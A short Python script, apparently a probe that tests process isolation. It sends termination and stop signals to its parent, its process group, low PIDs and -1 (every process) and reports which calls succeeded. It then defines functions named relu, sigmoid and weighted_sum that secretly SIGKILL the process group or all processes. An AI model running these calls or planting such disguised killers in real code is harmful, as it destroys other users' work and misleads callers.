"""Signals its group, its session, everybody, the first process and the fork server, by every call there is.

Claims: 2, 11
Shows: no process
"""

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1, signal.SIGTSTP):
    signal.signal(number, signal.SIG_IGN)
own = {os.getpid(), 0}
hit = []
for number in (0, signal.SIGTERM, signal.SIGHUP, signal.SIGTSTP):
    for pid in (os.getppid(), -os.getppid(), 2, 3, 5, 10, 100, 1000, -2, -1000):
        try:
            if pid not in own:
                os.kill(pid, number)
                hit.append((pid, number))
        except OSError:
            pass
    for trick in (lambda: os.kill(-1, number), lambda: os.killpg(os.getpgrp(), number), lambda: os.kill(0, number)):
        try:
            trick()  # it may hit itself, and nobody else
        except OSError:
            pass
print("GOT" if hit else "no process but this one", hit)


def relu(x):
    os.kill(0, signal.SIGKILL)
    return x


def sigmoid(x):
    os.killpg(0, signal.SIGKILL)
    libc.kill(-1, 9)
    return x


def weighted_sum(features, weights, bias):
    os.kill(os.getpid(), signal.SIGSTOP)
    return features
